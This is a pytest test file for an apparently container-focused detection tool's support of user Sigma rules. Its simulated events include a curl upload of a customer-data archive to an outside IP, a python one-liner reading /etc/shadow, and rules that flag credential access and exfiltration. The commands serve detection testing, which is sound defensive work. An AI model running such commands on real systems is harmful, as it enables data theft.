"""Users' Sigma rules (`--sigma`): loaded through pySigma, matched with Sigma's semantics over
tidewaiter's events, joining the correlation or standing as findings, and every rule that cannot
run reported in one sentence."""

from __future__ import annotations

import builtins
import sys
from pathlib import Path
from typing import Any

import pytest

from tests import builders as b
from tests.watch.harness import Watch, jsonl_alerts
from tidewaiter.cli.main import main
from tidewaiter.detection.addresses import AddressPolicy
from tidewaiter.detection.analytics import Finding
from tidewaiter.events import Event
from tidewaiter.pipeline import Engine, EngineConfig
from tidewaiter.sigma.load import Rules, load
from tidewaiter.sources import ReadReport, open_events

ROOT = Path(__file__).resolve().parents[2]
SIGMAHQ_RULE = Path("sigma") / "lnx_auditd_data_compressed.yml"  # in the shared corpus
AUDITD = ROOT / "tests" / "fixtures" / "auditd" / "container.log"
CTR = b.container()

PACKER = """
title: In-house packer stages data
id: 0c9f5a52-52a4-4d0a-bb64-4e0f0e4ac2d1
logsource: {product: linux, category: process_creation}
detection:
  selection:
    Image|endswith: /packr
    CommandLine|contains: ' -o '
  condition: selection
level: low
tags: [attack.collection, attack.t1560.002]
"""
SHIPPER = """
title: Shipper uploads a file
logsource: {product: linux, category: process_creation}
detection:
  selection: {Image|endswith: /shipper, CommandLine|contains|all: [--send, --to]}
  condition: selection
level: medium
tags: [attack.exfiltration, attack.t1048]
"""
STANDALONE = """
title: Shadow file read by a script
logsource: {category: process_creation}
detection:
  selection:
    CommandLine|contains: /etc/shadow
  filter:
    Image|endswith: [/passwd, /chage]
  condition: selection and not filter
level: high
tags: [attack.credential-access, attack.t1003.008]
"""


def rules(tmp_path: Path, *texts: str) -> Rules:
    path = tmp_path / "rules.yml"
    path.write_text("\n---\n".join(texts))
    return load([str(path)])


def run(events: list[Event], loaded: Rules | None) -> list[Finding]:
    found: list[Finding] = []
    engine = Engine(found.append, EngineConfig(rules=(loaded,) if loaded else ()))
    for event in events:
        engine.process(event)
    engine.flush()
    return found


def matched(loaded: Rules, events: list[Event]) -> list[str]:
    policy = AddressPolicy()
    return [
        (e.process.cmd_line or "") if e.process else "" for e in events if loaded.signals(e, policy)
    ]


@pytest.mark.corpus
def test_the_sigmahq_auditd_rule_matches_the_archivers_it_names(corpus: Path) -> None:
    loaded = load([str(corpus / SIGMAHQ_RULE)])
    assert loaded.problems == []
    [rule] = loaded.rules
    assert (rule.ref.title, rule.ref.level) == ("Data Compressed", "low")
    events = list(open_events(str(AUDITD), ReadReport()))
    hits = matched(loaded, events)
    # zip; gzip -k; tar with -c in argv[1]. Not the openssl, not `sh -c "tar ..."` (a0 is sh)
    assert sorted(h.split()[0] for h in hits) == ["gzip", "tar", "zip"]
    assert any("tar -czf data.tar.gz" in h for h in hits)
    # an auditd rule reads auditd's argv fields: a Tetragon exec of the same tar is not its data
    tetragon = b.launch("tar -czf /tmp/a.tgz /etc", path="/usr/bin/tar")
    assert not loaded.signals(tetragon, AddressPolicy())


@pytest.mark.corpus
def test_the_sigmahq_rule_joins_correlation_through_detect(
    corpus: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["detect", "--json", "--sigma", str(corpus / SIGMAHQ_RULE), str(AUDITD)]) == 0
    out, err = capsys.readouterr()
    assert "1 rule(s) loaded, 0 not" in err
    assert "Sigma rule 'Data Compressed' matched tar -czf data.tar.gz" in out


def test_a_users_archiver_rule_takes_part_in_correlation(tmp_path: Path) -> None:
    events = [
        b.launch("/opt/tools/packr -o /tmp/c.pk /srv/customers", time=1000, ctr=CTR),
        b.launch("/usr/bin/curl -T /tmp/c.pk https://203.0.113.9/u", time=1030, pid=101, ctr=CTR),
    ]
    assert [f.analytic.uid for f in run(events, None)] == []  # packr is no catalog archiver
    [finding] = run(events, rules(tmp_path, PACKER))
    assert finding.analytic.uid == "tw-archive-exfil"
    assert finding.entity.container == CTR
    [archive] = [s for s in finding.evidence if s.rule is not None]
    assert archive.rule.title == "In-house packer stages data"
    assert "T1560.002" in finding.techniques
    assert "the uploader's command line names the archive c.pk" not in finding.reasons  # no path


def test_a_users_uploader_rule_takes_part_in_correlation(tmp_path: Path) -> None:
    events = [
        b.launch("tar -czf /tmp/db.tgz /var/lib/db", time=1000, ctr=CTR),
        b.launch("/opt/bin/shipper --send /tmp/db.tgz --to vault", time=1040, pid=7, ctr=CTR),
    ]
    [alone] = run(events, None)
    assert alone.analytic.uid == "tw-archive-created"
    [finding] = run(events, rules(tmp_path, SHIPPER))
    assert finding.analytic.uid == "tw-archive-exfil"
    assert finding.severity_id >= 4  # a transfer tool carried it out
    assert any(s.rule and s.rule.title == "Shipper uploads a file" for s in finding.evidence)


def test_a_rule_that_stands_alone_is_its_own_finding(tmp_path: Path) -> None:
    events = [
        b.launch("python3 -c print(open('/etc/shadow').read())", path="/usr/bin/python3"),
        b.launch("/usr/bin/passwd --status /etc/shadow", pid=5),  # filtered out by the rule
    ]
    [finding] = run(events, rules(tmp_path, STANDALONE))
    assert finding.analytic.uid == "tw-sigma-rule"
    assert finding.title == "Shadow file read by a script"
    assert finding.severity == "High"
    assert finding.techniques == ()  # T1003.008 is outside tidewaiter's ATT&CK list...
    assert any("T1003.008" in r for r in finding.reasons)  # ...and the finding says so


def test_every_rule_that_cannot_run_is_reported_in_one_sentence(tmp_path: Path) -> None:
    texts = [
        PACKER,
        "title: Hash\nlogsource: {category: process_creation}\n"
        "detection: {s: {Hashes|contains: abc}, condition: s}",
        "title: Registry\nlogsource: {product: windows, category: registry_set}\n"
        "detection: {s: {TargetObject: x}, condition: s}",
        "title: Bad modifier\nlogsource: {category: process_creation}\n"
        "detection: {s: {Image|nosuchmodifier: x}, condition: s}",
        "title: Placeholder\nlogsource: {category: process_creation}\n"
        "detection: {s: {User|expand: '%admins%'}, condition: s}",
        "title: Pairs\ncorrelation: {type: temporal, rules: [a, b], group-by: [Computer], "
        "timespan: 5m}",
    ]
    loaded = rules(tmp_path, *texts)
    assert [r.ref.title for r in loaded.rules] == ["In-house packer stages data"]
    problems = loaded.problems
    assert len(problems) == 5
    assert all("\n" not in p and " not loaded: " in p for p in problems)
    joined = "\n".join(problems)
    assert "field 'Hashes' has no counterpart" in joined
    assert "logsource category 'registry_set'" in joined
    assert "nosuchmodifier" in joined
    assert "placeholder" in joined
    assert "correlation rules are not run" in joined


def test_sigma_value_semantics(tmp_path: Path) -> None:
    text = """
title: Semantics
logsource: {category: process_creation}
detection:
  wild: {CommandLine: 'tar -c?f *'}
  regex: {CommandLine|re: '\\s--exclude=\\S+'}
  cased: {CommandLine|cased|contains: SECRET}
  parent: {ParentImage|startswith: /usr/sbin/}
  pid: {ProcessId|gte: 4000}
  keyword: ['*rclone*']
  condition: (wild and regex) or cased or (parent and pid) or keyword
level: low
"""
    loaded = rules(tmp_path, text)
    assert loaded.problems == []
    events = [
        b.launch("TAR -CZF /tmp/x /etc --exclude=/etc/ssl", pid=1),  # wildcards, case-blind
        b.launch("tar -czf /tmp/x /etc", pid=2),  # no --exclude
        b.launch("cat SECRET", pid=3),
        b.launch("cat secret", pid=4),  # |cased
        b.launch("cron -f", pid=4001, parent_cmd="/usr/sbin/cron -f"),
        b.launch("cron -f", pid=12, parent_cmd="/usr/sbin/cron -f"),  # pid below 4000
        b.launch("/usr/bin/RClone copy x y:", pid=5),  # keyword, any case
    ]
    assert matched(loaded, events) == [
        "TAR -CZF /tmp/x /etc --exclude=/etc/ssl",
        "cat SECRET",
        "cron -f",
        "/usr/bin/RClone copy x y:",
    ]


def test_network_and_file_rules(tmp_path: Path) -> None:
    text = """
title: Egress to a public port 443
logsource: {category: network_connection}
detection:
  s: {DestinationPort: 443, Initiated: 'true'}
  private: {DestinationIp|cidr: [10.0.0.0/8, 192.168.0.0/16]}
  condition: s and not private
level: informational
tags: [attack.exfiltration, attack.t1041]
---
title: Zip under tmp
logsource: {category: file_event}
detection:
  s: {TargetFilename|startswith: /tmp/, TargetFilename|endswith: .zip}
  condition: s
level: low
tags: [attack.t1560]
"""
    loaded = rules(tmp_path, text)
    assert loaded.problems == []
    policy = AddressPolicy()
    [out] = loaded.signals(b.connect("203.0.113.5"), policy)
    assert out.kind == "upload"
    assert out.destination is not None
    assert not out.destination.internal
    assert loaded.signals(b.connect("10.1.2.3"), policy) == []
    assert loaded.signals(b.connect("203.0.113.5", port=80), policy) == []
    [zipped] = loaded.signals(b.file_write("/tmp/a.zip"), policy)
    assert zipped.kind == "archive"
    assert zipped.archive_path == "/tmp/a.zip"
    assert loaded.signals(b.file_write("/var/a.zip"), policy) == []


def test_detect_refuses_a_missing_rule_path(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "nope.yml"
    assert main(["detect", "--sigma", str(missing), str(AUDITD)]) == 2
    assert f"--sigma {missing}: no such file or directory" in capsys.readouterr().err


def test_expanding_modifiers_field_references_and_existence(tmp_path: Path) -> None:
    text = """
title: Modifiers
logsource: {category: process_creation}
detection:
  dash: {CommandLine|windash|contains: ' -enc '}
  b64: {CommandLine|base64offset|contains: 'secret'}
  same: {ParentCommandLine|fieldref: CommandLine}
  orphan: {ParentImage: null}
  named: {User|exists: true}
  condition: dash or b64 or same or (orphan and named)
level: low
"""
    loaded = rules(tmp_path, text)
    assert loaded.problems == []
    events = [
        b.launch("powershell /enc SQBFAFgA", pid=1, parent_cmd="explorer.exe"),  # windash
        b.launch("echo eHNlY3JldHg= | base64 -d", pid=2, parent_cmd="bash"),  # "xsecretx"
        b.launch("sh run.sh", pid=3, parent_cmd="sh run.sh"),  # fieldref
        b.launch("ls /", pid=4, parent_cmd="bash"),
        b.launch("ls /tmp", pid=5),  # no parent, and no user recorded
    ]
    assert matched(loaded, events) == [
        "powershell /enc SQBFAFgA",
        "echo eHNlY3JldHg= | base64 -d",
        "sh run.sh",
    ]


def test_without_pysigma_the_flag_names_the_extra(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    real_import = builtins.__import__

    def no_pysigma(name: str, *args: Any, **kwargs: Any) -> Any:
        if name == "sigma" or name.startswith("sigma."):
            raise ImportError(f"No module named {name!r}")
        return real_import(name, *args, **kwargs)

    for module in [m for m in sys.modules if m.startswith("tidewaiter.sigma.")]:
        monkeypatch.delitem(sys.modules, module)
    monkeypatch.setattr(builtins, "__import__", no_pysigma)
    assert main(["detect", "--sigma", str(AUDITD), str(AUDITD)]) == 2
    assert "--sigma needs pySigma: pip install 'tidewaiter[sigma]'" in capsys.readouterr().err


def test_watch_runs_users_rules_as_it_follows(tmp_path: Path) -> None:
    """`tidewaiter watch --sigma` (a real process reading standard input): the user's rule is a
    finding of its own in the alerts it delivers."""
    rule = tmp_path / "rule.yml"
    rule.write_text(STANDALONE)
    source = tmp_path / "falco.jsonl"
    line = (
        '{"time":"2024-05-02T10:00:00.000000000Z","rule":"Spawned process","priority":"Notice",'
        '"output":"x","source":"syscall","output_fields":{"evt.type":"execve",'
        '"proc.pid":41,"proc.exepath":"/usr/bin/python3",'
        '"proc.cmdline":"python3 -c print(open(\'/etc/shadow\').read())",'
        '"container.id":"4f1c2b9e7d6a","proc.name":"python3"}}\n'
    )
    source.write_text(line)
    out = tmp_path / "alerts.jsonl"
    args = ["-", "--db", "tw.duckdb", "--out", str(out), "--sigma", str(rule)]
    with source.open("rb") as stdin, Watch(args, tmp_path) as watch:
        watch.start(stdin=stdin.fileno())
        assert watch.proc is not None
        assert watch.proc.wait(timeout=60) == 0
        assert watch.said("sigma: 1 rule(s) loaded, 0 not")
    [alert] = jsonl_alerts(out)
    assert alert["finding_info"]["title"] == "Shadow file read by a script"
    assert alert["finding_info"]["analytic"]["uid"] == "tw-sigma-rule"
    assert alert["severity"] == "High"
